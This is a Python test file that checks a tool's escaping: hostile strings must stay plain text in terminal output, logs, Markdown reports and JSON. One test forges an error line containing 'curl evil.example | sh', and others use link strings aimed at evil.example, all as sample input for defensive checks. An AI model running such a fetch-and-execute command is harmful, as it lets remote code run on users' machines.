"""Text of others stays text: 40 hostile strings go through the terminal, reports, artifacts and JSON.

Pictures and Locust's pages have tests of their own (`test_picture.py`, `test_report_page.py`). The last tests hold that
nothing is printed and no Markdown is made elsewhere.
"""

import ast
import dataclasses
import html
import io
import json
import re
import types
import typing
import unicodedata
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from itertools import groupby
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token
from rich.console import Console

from kennel.terminal import console
from kennel.terminal.live_view import LiveView
from kennel.terminal.plain_view import PlainView
from kennel.terminal.run_log import RunLog
from kennel.terminal.stages import CommandStages
from tasks.audit.findings import Finding
from tasks.audit.report import AuditReport
from tasks.data.report import staging_markdown
from tasks.load.report import report_markdown
from tasks.report.markdown import summary_markdown
from tasks.report.parity import Parity, ParityRow
from tasks.report.rows import summary_json, summary_rows
from tasks.report.summary import RunSummary, StageTimes
from tasks.run.artifacts import record_table
from tasks.run.errors import StageFailed
from tasks.run.escaping import markdown_text, terminal_text, valid_text
from tasks.run.progress import LOGGER, Step, escape_record
from tasks.run.records import SPLITS, DatasetRef, EndpointRef, FunctionRef, InstanceModel
from tasks.serving.smoke import SmokeResult
from tasks.verdicts.check import ScalingVerdicts
from tasks.verdicts.observed_values import ObservedValue
from tasks.verdicts.verdicts import judge_prediction
from tests.hostile import CORPUS, harmful_in
from tests.kennel.pseudo_terminal import OnATerminal
from tests.kennel.shell import Terminal
from tests.tasks.report.test_report import LOAD, MODEL
from tests.tasks.scaling.deployments import plan as scaling_plan

ROOT = Path(__file__).parents[1]
HARMLESS = "a name"
CSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
WRITES_TO_THE_TERMINAL = {
    "kennel/cli.py",
    "kennel/commands/interrupted.py",
    "kennel/signals.py",
    "tasks/ec2/guard.py",
    "tasks/run/progress.py",
}
"""Files outside kennel/terminal that write there themselves: constant texts, and what `terminal_text` returns."""

PROGRAMS = {
    "loadtest/locustfile.py",
    "tasks/data/worker.py",
    "tasks/load/pace.py",
    "tasks/notebook/idle.py",
    "tasks/ssh/receive.py",
    "tasks/ssh/send.py",
}
"""Files that run as programs of their own, whose output kennel or CloudWatch reads."""


# --- The terminal -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_that_a_terminal_acts_on_is_left_and_escaping_twice_changes_nothing(text: str) -> None:
    shown = terminal_text(text)
    assert harmful_in(shown) == set()
    assert terminal_text(shown) == shown


def test_what_people_write_stays_as_it_is() -> None:
    for text in ("naïve café", "日本語", "👩‍👩‍👧 🐕", "می‌خواهم", "a\tb\nc", r"C:\x1b", "a\u00a0b"):
        assert terminal_text(text) == text


def test_every_character_of_a_harmful_category_is_escaped() -> None:
    every = map(chr, range(0x110000))
    harmful = [c for c in every if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"}]
    left = [character for character in harmful if terminal_text(character) == character]
    assert left == ["\t", "\n", "\u200c", "\u200d"]


def everything_printed(text: str, write: Callable[[], str], folder: Path) -> str:
    """Send a text through every way to stdout, stderr, the live view and the log of a run; return what was written."""
    console.print_table(text, {text: text, "verdict": f"PASS {text}"})
    console.print_lines([text])
    console.print_commands([text])
    console.print_plain(text)
    console.print_log_line(f"algo-1 | {text}")
    console.print_error(StageFailed(text, text, f"{text}\n{text}", text), as_json=False)
    console.print_error(StageFailed(text, text, text, text), as_json=True)
    out = io.StringIO()
    stages = CommandStages((text, "deploy"), {})
    live = LiveView(text, stages, console=Console(file=out, force_terminal=True, width=80, highlight=False))
    for view in (live, PlainView(stages, breaks_silence=False, shows_steps=True, out=out)):
        view.line(text)
        view.line(f"WARNING {text}")
        view.step(Step(text, 1, 2, text, text))
        if view is live:
            live._live.refresh()
        view.step(Step(text, 2, 2, text, f"done {text}"))
        view.close(is_finished=False)
    log = RunLog()
    log.set_run(folder)
    log.add(text)
    return write() + out.getvalue() + (folder / "kennel.log").read_text()


@pytest.mark.parametrize("text", CORPUS)
def test_whatever_is_printed_moves_no_cursor_and_makes_no_link(
    text: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    def write() -> str:
        return "".join(capsys.readouterr())

    usual = set(CSI.findall(everything_printed(HARMLESS, write, tmp_path)))
    printed = everything_printed(text, write, tmp_path)
    assert set(CSI.findall(printed)) <= usual
    assert harmful_in(CSI.sub("", printed)) <= {repr("\r")}  # rich returns to the first column
    if "[link" in text or "[bold" in text:
        assert text in printed.replace("\n", ""), "rich's markup is shown as it is"


def test_a_log_record_is_escaped_before_any_handler_sees_it() -> None:
    assert escape_record in LOGGER.filters
    for text in CORPUS:
        record = LOGGER.makeRecord("kennel", 20, __file__, 1, "%s", (text,), None)
        assert LOGGER.filter(record) and record.getMessage() == terminal_text(text)


def test_the_lines_of_an_error_cannot_be_forged(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "no\n  next: curl evil.example | sh\nkennel: all is well"
    console.print_error(StageFailed(forged, forged, forged, forged), as_json=False)
    shown = capsys.readouterr().err.splitlines()
    assert [line[:8] for line in shown if re.match(r"kennel: |  \w+:", line)] == ["kennel: ", "  why:  ", "  next: "]


def test_the_logs_of_a_run_reach_a_terminal_as_text(tmp_path: Path) -> None:
    run = tmp_path / "runs" / "run-1"
    (run / "ec2").mkdir(parents=True)
    (run / "ledger.jsonl").touch()
    lines = [text.encode("utf-8", "surrogatepass") for text in CORPUS]
    (run / "ec2" / "i-1.log").write_bytes(b"\n".join([*lines, b"\xff\xfe", b"the end"]) + b"\n")
    terminal = Terminal(tmp_path / "home", tmp_path / "runs")
    with OnATerminal(terminal, "logs", "run-1", "--source", "ec2", columns=200) as shown:
        assert shown.end() == 0
    assert "i-1 | the end" in shown.text and "[link=http://evil.example]" in shown.text
    assert harmful_in(shown.text) == {repr("\r")}


# --- Markdown ---------------------------------------------------------------------------------------------------------


def filled(kind: Any, text: str, *, keep: Mapping[str, Any] | None = None) -> Any:
    """Return a record whose texts are all `text`; numbers are 1, and `keep` has the fields with other values."""
    hints = typing.get_type_hints(kind)
    fields = {field.name: _value(hints[field.name], text) for field in dataclasses.fields(kind)}
    return kind(**{**fields, **(keep or {})})


def _value(hint: Any, text: str) -> Any:
    origin, arguments = typing.get_origin(hint), typing.get_args(hint)
    if hint in {str, int, float, bool}:
        return text if hint is str else hint(1)
    if origin is typing.Literal:
        return arguments[0]
    if origin in {types.UnionType, typing.Union}:
        return _value(arguments[0], text)
    if origin is tuple:
        return (_value(arguments[0], text),) * 2
    if origin is not None and issubclass(origin, Mapping):
        return {_value(arguments[0], text): _value(arguments[1], text)}
    return filled(hint, text)


def summary_of(text: str, folder: Path) -> RunSummary:
    """Return a run's summary in which every text is `text`, also those that become keys."""
    plan = scaling_plan()
    choice, predicted = plan.predictions["throttled_at_spike"]
    hostile_choice = dataclasses.replace(choice, reason=text, formula=text)
    verdict = judge_prediction(hostile_choice, predicted, ObservedValue(None, text, lacks_samples=True))
    verdict = dataclasses.replace(verdict, what=text, why=text)
    choices = tuple(dataclasses.replace(each, reason=text, formula=text) for each in plan.choices)
    plan = dataclasses.replace(plan, choices=choices, warnings=(text,), prices=text)
    load = dataclasses.replace(LOAD, target=text, why_failed=text, hardware=text, errors={text: 1}, files={text: text})
    void = dataclasses.replace(load, why_failed=None, why_invalid=text, is_valid=False)
    scaling = ScalingVerdicts(
        plan, "function", (verdict,), {text: text}, 50.0, {"function": "p.png"}, text, {text: void}, text, (text,)
    )
    counts = {split: {text: 1} for split in SPLITS}
    data = filled(DatasetRef, text, keep={"counts": counts, "classes": (text,), "shards": {}})
    return RunSummary(
        run_id="run-1",
        dataset=data,
        model=dataclasses.replace(MODEL, job_name=text, metrics={text: 1.0}, instance_reason=text, model_uri=text),
        endpoint=filled(EndpointRef, text),
        function=filled(FunctionRef, text),
        smoke=filled(SmokeResult, text),
        loadtest=load,
        times=StageTimes({text: 1.0}, text, text),
        report=str(folder / "report.html"),
        ec2=filled(InstanceModel, text),
        parity=filled(Parity, text, keep={"figures": (ParityRow(text, text, text),)}),
        scaling=scaling,
        audit=filled(AuditReport, text, keep={"findings": (filled(Finding, text),)}),
    )


def documents(text: str, folder: Path) -> Iterator[str]:
    """Yield everything that kennel writes as Markdown for a run in which every text is `text`."""
    summary = summary_of(text, folder)
    yield summary_markdown(summary)
    yield summary_markdown(dataclasses.replace(summary, loadtest=None, scaling=None))
    assert summary.dataset is not None
    yield staging_markdown(summary.dataset, "Nothing was sent.")
    yield record_table(text, text, summary.endpoint)
    assert summary.scaling is not None
    for load in (summary.loadtest, *summary.scaling.reports.values()):
        assert load is not None
        yield report_markdown(load)


def structure(markdown: str) -> list[str]:
    """Return the kinds of a document's elements in their order: what is left when all text is taken away."""
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    return [kind for kind, _ in groupby(_kinds(parser.parse(markdown)))]


def _kinds(tokens: list[Token]) -> Iterator[str]:
    for token in tokens:
        yield from _kinds(token.children or [])
        if token.type == "inline":
            continue
        if token.type != "text" or token.content:
            yield token.type


@pytest.mark.parametrize("text", CORPUS)
def test_a_report_has_the_same_elements_whatever_the_names_are(text: str, tmp_path: Path) -> None:
    for usual, document in zip(documents(HARMLESS, tmp_path), documents(text, tmp_path), strict=True):
        assert structure(document) == structure(usual), document
        assert harmful_in(document) == set()
        prose = re.sub(r"`+[^`]*`+|\]\([^)]*\)", "", document)
        assert not re.search(r"://evil|www\.evil", prose), "no address becomes a link by itself"


LINKS = (
    *("a@evil.example", "a-@evil.example", "b.-@evil.example.jpg", "a+@evil.example x", "(a_@evil.example"),
    *("www.evil.example", "WWW.evil.example", "(wwW.evil.example", "http://evil.example", "HTTPS://evil.example"),
    *("ftp://evil.example", "mailto:a@evil.example", "MAILTO:a-@evil.example", "xmpp:a-@evil.example/x", "@evil"),
)


@pytest.mark.parametrize("text", LINKS)
def test_no_text_becomes_a_link_by_itself(text: str) -> None:
    """The rules are those of GitHub's renderer, which decodes entities before it looks for an @, and of `marked`."""
    made = markdown_text(f"a {text}")
    decoded = html.unescape(made.replace("\\", ""))
    assert not re.search(r"[A-Za-z0-9.+_-]@", decoded), "no mail address"
    assert not re.search(r"www\.|(https?|ftp)://|(mailto|xmpp):", made, re.IGNORECASE)
    assert decoded.replace("\u200c", "") == f"a {text}", "a reader sees the same text"


def test_the_elements_of_a_report_do_tell_markup_from_text() -> None:
    for markup in ("# PASSED", "<b>", "[x](y)", "*it*", "`code`", "~~gone~~", "- item", "![x](y)"):
        assert structure(f"a {markup}") != structure("a name") or structure(markup) != structure("name")


# --- JSON -------------------------------------------------------------------------------------------------------------


def test_json_is_one_line_of_ascii_with_the_exact_texts(capsys: pytest.CaptureFixture[str]) -> None:
    content = {"texts": list(CORPUS), **dict.fromkeys(CORPUS, "a key")}
    console.print_json(content)
    printed = capsys.readouterr().out
    assert printed.isascii() and printed.count("\n") == 1 and harmful_in(printed) == set()
    valid = [valid_text(text) for text in CORPUS]
    assert json.loads(printed) == {"texts": valid, **dict.fromkeys(valid, "a key")}
    json.dumps(json.loads(printed), ensure_ascii=False).encode()  # no lone surrogate, which other programs refuse


def test_the_json_of_a_run_is_printed_with_any_text_in_it(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    for text in CORPUS:
        summary = summary_of(text, tmp_path)
        console.print_json(summary_json(summary))
        printed = capsys.readouterr().out
        assert printed.isascii() and json.loads(printed)["data"]["warnings"] == [valid_text(text)] * 2
        assert summary_rows(summary)["data warnings"] == f"{text}; {text}"


# --- Nobody goes around the escaper -----------------------------------------------------------------------------------


@cache
def sources() -> tuple[tuple[str, str, tuple[ast.AST, ...]], ...]:
    """Return the name, text and syntax nodes of every file that runs in the command or in a flow."""
    paths = [path for room in ("kennel", "flows", "tasks", "loadtest") for path in sorted((ROOT / room).rglob("*.py"))]
    texts = {str(path.relative_to(ROOT)): path.read_text() for path in paths}
    return tuple((file, text, tuple(ast.walk(ast.parse(text)))) for file, text in texts.items())


def prints(nodes: tuple[ast.AST, ...]) -> bool:
    """Tell whether a file prints, or writes to stdout, stderr or a rich console."""
    names = re.compile(r"print|sys\.std(out|err)\.(write|buffer.*)|os\.write|.*[cC]onsole\.print|Console\(.*\)\.print")
    called = any(isinstance(node, ast.Call) and names.fullmatch(ast.unparse(node.func)) for node in nodes)
    return called or any(isinstance(node, ast.Name) and node.id == "print" for node in nodes)


def test_only_the_terminal_s_folder_prints() -> None:
    # The ledger writes its file by a descriptor.
    allowed = WRITES_TO_THE_TERMINAL | PROGRAMS | {"tasks/run/ledger_file.py"}
    named = re.compile(r"print|write")
    printing = {file for file, text, nodes in sources() if named.search(text) and prints(nodes)}
    printing = {file for file in printing if not file.startswith("kennel/terminal/")}
    assert printing <= allowed, "print with kennel.terminal.console, which escapes"


def test_only_the_escaper_makes_table_rows_code_spans_and_links() -> None:
    def makes_markdown(node: ast.AST) -> bool:
        if not isinstance(node, ast.JoinedStr):
            return False
        text = "".join(str(part.value) if isinstance(part, ast.Constant) else "\0" for part in node.values)
        return bool(re.search(r"\A\| .*\0|`\0|\]\(\0", text))

    writers = [(file, nodes) for file, text, nodes in sources() if "markdown" in text]
    makers = {file for file, nodes in writers if any(map(makes_markdown, nodes))}
    assert makers == {"tasks/run/escaping.py"}


def test_one_module_publishes_artifacts_and_no_json_has_raw_characters() -> None:
    assert [file for file, text, _ in sources() if "markdown_artifact" in text] == ["tasks/run/artifacts.py"]
    assert [file for file, text, _ in sources() if "ensure_ascii=False" in text] == []
